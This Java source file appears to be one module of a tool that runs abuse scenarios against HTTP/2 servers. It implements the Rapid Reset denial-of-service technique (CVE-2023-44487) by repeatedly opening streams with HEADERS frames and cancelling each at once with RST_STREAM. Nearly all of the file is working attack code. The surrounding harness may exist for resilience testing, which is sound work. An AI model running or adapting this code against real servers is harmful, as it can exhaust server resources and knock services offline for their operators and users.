package io.resound.abuse;

import java.nio.ByteBuffer;
import java.time.Duration;

import org.jspecify.annotations.Nullable;

/** Opens streams and resets each at once (CVE-2023-44487). */
final class ResetStreams implements Attack {

	private static final int CANCEL = 8;

	@Override
	public String name() {
		return "HTTP/2: streams reset as soon as opened";
	}

	@Override
	public Duration pause() {
		return Duration.ofMillis(100);
	}

	@Override
	public Script script() {
		byte[] head = HeaderBlock.post().bytes();
		return new Http2Script(Frames.INITIAL_WINDOW) {

			private int stream = -1;

			@Override
			@Nullable ByteBuffer more() {
				this.stream += 2;
				return Frames.together(Frames.frame(Frames.HEADERS, Frames.END_HEADERS, this.stream, head),
						Frames.frame(Frames.RST_STREAM, this.stream, CANCEL));
			}

		};
	}

}
